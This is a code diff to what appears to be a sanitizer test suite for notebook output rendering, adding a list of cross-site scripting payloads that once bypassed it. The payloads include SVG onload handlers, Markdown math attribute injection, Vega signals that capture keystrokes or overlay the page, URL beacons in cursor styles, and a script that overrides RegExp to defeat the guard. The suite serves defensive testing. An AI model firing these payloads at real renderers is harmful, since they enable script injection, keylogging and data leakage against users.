@@ -93,10 +93,29 @@ _MARKDOWN = {
     "a picture by a reference of an entity": "![a][&#98;]\n\n[&#98;]: BEACON/entity.png",
     "an address with credentials": "<https://a:b@127.0.0.1/javascript:HIT>",
 }
+
+
+def _signal(**more: object) -> dict[str, object]:
+    return {"signals": [{"name": "k", "value": "", **more}]}
+
+
 _BUNDLES: dict[str, tuple[dict[str, object], dict[str, object]]] = {
     "an embedding with a loader": (
         {_LITE: {"mark": "bar", "data": {"values": [{"a": 1}]}, "encoding": {}}},
         {_LITE: {"embed_options": {"loader": {"baseURL": "BEACON"}, "ast": True}}},
+    ),
+    "vega, keys typed anywhere, and kept from the page": (
+        {
+            _VEGA: _signal(
+                on=[
+                    {
+                        "events": {"source": "window", "type": "keypress", "consume": True},
+                        "update": "k+event.key",
+                    }
+                ]
+            )
+        },
+        {},
     ),
     "isolated deep in metadata": (
         {"text/html": "<b>x</b>"},
@@ -189,10 +208,89 @@ _CODE = {
     "links in printed text": "print('\\x1b]8;;javascript:1\\x07x\\x1b]8;;\\x07 javascript:1 data:text/html,x')",
 }
 
+# Outputs that once acted, one for each kind: each has variants (`VARIANTS`) that are tried too.
+_ONCE_ACTED: dict[str, dict[str, object]] = {
+    "markdown, a placeholder of mathematics in an address": {
+        "text/markdown": '[x](https://a/@\\@0@@) and $" style="display:block;'
+        'content-visibility:auto" oncontentvisibilityautostatechange="HIT" b="$'
+    },
+    "vega, attributes of a bound input": {
+        _VEGA: _signal(bind={"input": "text", "type": "image", "src": "x", "onerror": "HIT"})
+    },
+    "vega, an input laid over the page": {
+        _VEGA: _signal(bind={"element": "body", "input": "text", "style": "position:fixed;inset:0"})
+    },
+    "vega, keys typed elsewhere in the page": {
+        _VEGA: _signal(
+            on=[{"events": {"source": "body", "type": "keydown"}, "update": "k+event.key"}]
+        )
+    },
+    "vega, an address loaded with the page's cookies": {
+        _VEGA: {"signals": [{"name": "cursor", "value": "url(BEACON), auto"}]}
+    },
+    "plotly, an address in a label's style": {
+        "application/vnd.plotly.v1+json": {
+            "data": [{"y": [1, 2]}],
+            "layout": {"title": {"text": '<span style="cursor:url(BEACON),auto">t</span>'}},
+        }
+    },
+    "html, a frame made after a built-in of the guard was replaced": {
+        "text/html": "<script>RegExp.prototype.test=()=>false;const f=document.createElement("
+        f"'iframe');f['src'+'doc']=`<script>HIT;{_DATAGRAM}</scr`+`ipt>`;document.body.append(f)"
+        "</script>"
+    },
+    "svg that is put into a page": {
+        "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" width="9"/onload="HIT"></svg>'
+    },
+}
+#: The other payloads of the same kind as each of these: how their names begin.
+VARIANTS = {
+    "markdown, a placeholder of mathematics in an address": (
+        "a placeholder ",
+        "mathematics in an a",
+        "mathematics in a title",
+        "mathematics of a brace",
+        "mathematics over two code spans",
+    ),
+    "vega, attributes of a bound input": (
+        "vega, attributes of a bound",
+        "vega-lite, attributes of a ",
+    ),
+    "vega, an input laid over the page": (
+        "vega, an input ",
+        "vega 6, an input ",
+        "vega-lite, an input ",
+        "vega, a list laid ",
+    ),
+    "vega, keys typed elsewhere in the page": (
+        "vega, keys typed ",
+        "vega, clicks ",
+        "vega, moves ",
+        "vega, events ",
+        "vega-lite, a selection by the page's keys",
+    ),
+    "vega, an address loaded with the page's cookies": (
+        "vega, an address loaded",
+        "vega, a cursor ",
+        "vega-lite, a cursor ",
+        "vega-lite, a fill by an address",
+        "vega-lite that loads",
+        "a cursor by an address",
+        "a font with an address",
+    ),
+    "plotly, an address in a label's style": ("plotly, ", "plotly with a picture", "plotly map"),
+    "html, a frame made after a built-in of the guard was replaced": ("a frame made after ",),
+    "svg that is put into a page": ("svg, ", "svg with a "),
+}
+
+#: How many there are of these.
+ONCE_ACTED = len(_ONCE_ACTED)
+
 
 def attack_payloads(beacon: str) -> list[Payload]:
-    """All of them; their beacons lead to that address."""
-    cells = [(name, f"display(HTML({html!r}))") for name, html in _HTML.items()]
+    """All of them, those first that once acted; their beacons lead to that address."""
+    cells = [(name, f"display({data!r}, raw=True)") for name, data in _ONCE_ACTED.items()]
+    cells += [(name, f"display(HTML({html!r}))") for name, html in _HTML.items()]
     cells += [(name, f"display(Markdown({text!r}))") for name, text in _MARKDOWN.items()]
     cells += [
         (name, f"display({data!r}, raw=True, metadata={metadata!r})")
